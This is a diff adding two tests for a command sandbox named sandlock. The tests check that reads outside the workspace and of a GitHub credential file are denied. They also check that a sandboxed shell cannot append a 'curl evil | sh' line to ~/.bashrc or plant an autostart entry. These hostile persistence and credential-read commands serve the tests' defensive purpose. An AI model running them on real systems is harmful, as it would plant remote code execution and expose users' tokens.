@@ -209,3 +209,34 @@ def test_modes_from_python_and_policy_files(home, tmp_path):
 def test_check_reports_the_protection_level():
     result = sandlock("check")
     assert "protection level: Full (filesystem, IPC and signal scoping" in result.stdout
+
+
+def test_a_failure_names_what_the_default_workspace_left_out(home):
+    notes, token = home / "notes.txt", home / ".config/gh/hosts.yml"
+    failed = run(home, 'cat "$1" "$2"', cwd=home / "proj")  # sh -c: $1 $2 unset: no paths
+    assert "sandlock: note" not in failed.stderr
+    argv = [*SANDLOCK, "run", "--", "cat", str(notes), str(token)]
+    environment = {**os.environ, "HOME": str(home)}
+    result = subprocess.run(argv, cwd=home / "proj", env=environment, capture_output=True,
+                            text=True, timeout=60)
+    assert result.returncode == 1
+    assert (f"sandlock: note: {notes} is outside the default workspace; "
+            f"SANDLOCK_FS_READ={notes} (or SANDLOCK_FS_WRITE) grants it") in result.stderr
+    assert f"sandlock: note: {token} is a credential store, denied in every policy" in result.stderr
+    followed = subprocess.run([*SANDLOCK, "run", "--", "cat", str(notes)], cwd=home / "proj",
+                              env={**environment, "SANDLOCK_FS_READ": str(notes)},
+                              capture_output=True, text=True, timeout=60)
+    assert (followed.returncode, followed.stdout) == (0, "secret")
+    quiet = subprocess.run([*SANDLOCK, "run", "-q", "--", "cat", str(notes)], cwd=home / "proj",
+                           env=environment, capture_output=True, text=True, timeout=60)
+    assert quiet.returncode == 1 and "sandlock: note" not in quiet.stderr
+
+
+def test_shell_startup_files_cannot_be_planted(home):
+    """Nothing the user's own shell runs later can be written: $HOME is not writable."""
+    (home / ".bashrc").write_text("# mine\n")
+    result = run(home, 'echo "curl evil | sh" >> "$HOME/.bashrc"; '
+                 'mkdir -p "$HOME/.config/autostart" && echo x > "$HOME/.config/autostart/a.desktop"')
+    assert result.returncode != 0
+    assert (home / ".bashrc").read_text() == "# mine\n"
+    assert not (home / ".config" / "autostart").exists()
